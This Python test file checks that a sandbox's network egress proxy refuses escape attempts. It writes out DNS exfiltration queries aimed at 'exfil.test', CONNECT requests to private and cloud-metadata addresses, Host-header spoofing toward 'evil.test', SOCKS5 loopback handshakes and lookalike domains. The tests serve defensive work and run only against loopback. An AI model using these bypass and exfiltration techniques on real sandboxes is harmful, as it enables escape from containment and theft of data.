"""Attacks on a sandboxed run's network. The policy lets the sandbox reach what installing
dependencies needs (``executor.network``); before it, letting ``pip install`` work meant
giving the sandbox the host's whole network. Each row is something a command inside tries:
reaching a server directly, resolving names (DNS exfiltration), an IP literal of a private
or metadata address, a CONNECT to a refused host dressed in an allowed ``Host`` header,
SOCKS5 to the host's loopback, a name that only looks like an allowed one. Every target is on
127.0.0.1, or refused before anything is sent; each row first checks that the sandbox has no
network interface but its own loopback, so nothing here reaches beyond this machine."""

from __future__ import annotations

import struct
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from clawgate.executors import ExecRequest, executor_from_settings
from egress_support import PYTHON, UdpListener, http_server

pytestmark = pytest.mark.bwrap
BRIDGE = ("127.0.0.1", 3128)  # where the sandbox's programs find the proxy


@pytest.fixture(scope="module")
def servers() -> Iterator[tuple[int, int]]:
    """Two HTTP servers on the host's loopback: the policy names the first port only."""
    with http_server() as named, http_server() as unnamed:
        yield named, unnamed


def _sandbox(tmp_path: Path, named: int, allowed: list[str] | None = None) -> Any:
    network: dict[str, Any] = {"denied_domains": ["evil.test"],
                               "allow_loopback_ports": [named]}
    if allowed is not None:
        network["allowed_domains"] = allowed
    workspace = tmp_path / "ws"
    workspace.mkdir(exist_ok=True)
    return executor_from_settings({"kind": "bwrap", "network": network}, workspace=workspace)


def _inside(executor: Any, code: str) -> str:
    """Run Python ``code`` in the sandbox; its output. First: the sandbox's interfaces are
    its loopback only (else the attack would reach the host's network)."""
    interfaces = executor.run(ExecRequest("cat /proc/net/dev")).stdout.splitlines()[2:]
    assert [line.split(":")[0].strip() for line in interfaces] == ["lo"]
    result = executor.run(ExecRequest([PYTHON, "-I", "-c", code], timeout_s=60))
    return result.stdout + result.stderr


RAW = """import socket
s = socket.create_connection({bridge!r}, timeout=20)
s.sendall({data!r})
got = b''
while chunk := s.recv(4096):
    got += chunk
print(got[:{cut}])
"""


def _raw(data: bytes, cut: int = 40) -> str:
    return RAW.format(bridge=BRIDGE, data=data, cut=cut)


def _socks(host: bytes, port: int, kind: int) -> bytes:
    address = bytes([len(host)]) + host if kind == 3 else host
    return b"\x05\x01\x00" + bytes([5, 1, 0, kind]) + address + struct.pack(">H", port)


def test_direct_connection_fails(tmp_path: Path, servers: tuple[int, int]) -> None:
    named, unnamed = servers
    code = (f"import socket\nfor port in ({named}, {unnamed}):\n    try:\n"
            "        socket.create_connection(('127.0.0.1', port), timeout=5)\n"
            "        print('reached', port)\n    except OSError as e:\n"
            "        print('refused', type(e).__name__)\n")
    with _sandbox(tmp_path, named) as executor:
        assert _inside(executor, code) == "refused ConnectionRefusedError\n" * 2


def test_dns_exfiltration_fails(tmp_path: Path, servers: tuple[int, int]) -> None:
    listener = UdpListener()
    query = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x06secret\x04exfil\x04test\x00"
    code = ("import socket\nu = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
            f"try:\n    u.sendto({query!r}, ('127.0.0.1', {listener.port}))\nexcept OSError as e:\n"
            "    print('send', type(e).__name__)\n"
            "try:\n    socket.getaddrinfo('token-1234.exfil.test', 80)\n    print('resolved')\n"
            "except OSError as e:\n    print('resolve', type(e).__name__)\n"
            )
    try:
        with _sandbox(tmp_path, servers[0]) as executor:
            said = _inside(executor, code)
        assert listener.received() == []
    finally:
        listener.close()
    assert said == "resolve gaierror\n"


@pytest.mark.parametrize("host", ["10.0.0.1", "192.168.1.1", "169.254.169.254", "[fd00::1]",
                                  "0.0.0.0"])
def test_private_ip_literal_is_refused_even_under_star(tmp_path: Path, servers: tuple[int, int],
                                                       host: str) -> None:
    request = f"CONNECT {host}:80 HTTP/1.1\r\nHost: pypi.org\r\n\r\n".encode()
    with _sandbox(tmp_path, servers[0], allowed=["*"]) as executor:
        said = _inside(executor, _raw(request, 60))
    assert said.startswith(f"b'HTTP/1.1 403 clawgate refused {host}:80")


def test_connect_to_a_refused_host_with_an_allowed_host_header(
        tmp_path: Path, servers: tuple[int, int]) -> None:
    named, unnamed = servers
    tunnel = (f"CONNECT 127.0.0.1:{unnamed} HTTP/1.1\r\nHost: 127.0.0.1:{named}\r\n\r\n"
              f"GET / HTTP/1.0\r\n\r\n").encode()
    plain = f"GET http://evil.test/ HTTP/1.1\r\nHost: 127.0.0.1:{named}\r\n\r\n".encode()
    with _sandbox(tmp_path, named) as executor:
        assert _inside(executor, _raw(tunnel, 12)) == "b'HTTP/1.1 403'\n"
        assert _inside(executor, _raw(plain, 12)) == "b'HTTP/1.1 403'\n"
        spoofed = f"GET http://localhost:{named}/p HTTP/1.1\r\nHost: evil.test\r\n\r\n"
        assert f"hello localhost:{named} /p" in _inside(executor, _raw(spoofed.encode(), 200))


@pytest.mark.parametrize(("host", "kind"), [(b"\x7f\x00\x00\x01", 1), (b"localhost", 3),
                                        (b"\x00" * 15 + b"\x01", 4), (b"127.9.9.9", 3),
                                        (b"2130706433", 3)])
def test_socks5_to_an_unnamed_loopback_port(tmp_path: Path, servers: tuple[int, int],
                                            host: bytes, kind: int) -> None:
    named, unnamed = servers
    with _sandbox(tmp_path, named, allowed=["*"]) as executor:
        said = _inside(executor, _raw(_socks(host, unnamed, kind), 4))
    assert said == repr(b"\x05\x00\x05\x02") + "\n"


@pytest.mark.parametrize("host", ["pypi.org.evil.test", "evilpypi.org", "pypi-org",
                                  "xn--pypi-org.test", "github.com@evil.test",
                                  "github.com.evil.test", "files.pythonhosted.org.evil.test"])
def test_names_that_look_allowed(tmp_path: Path, servers: tuple[int, int], host: str) -> None:
    request = f"CONNECT {host}:443 HTTP/1.1\r\n\r\n".encode()
    with _sandbox(tmp_path, servers[0]) as executor:
        said = _inside(executor, _raw(request, 12))
    assert said == "b'HTTP/1.1 403'\n"
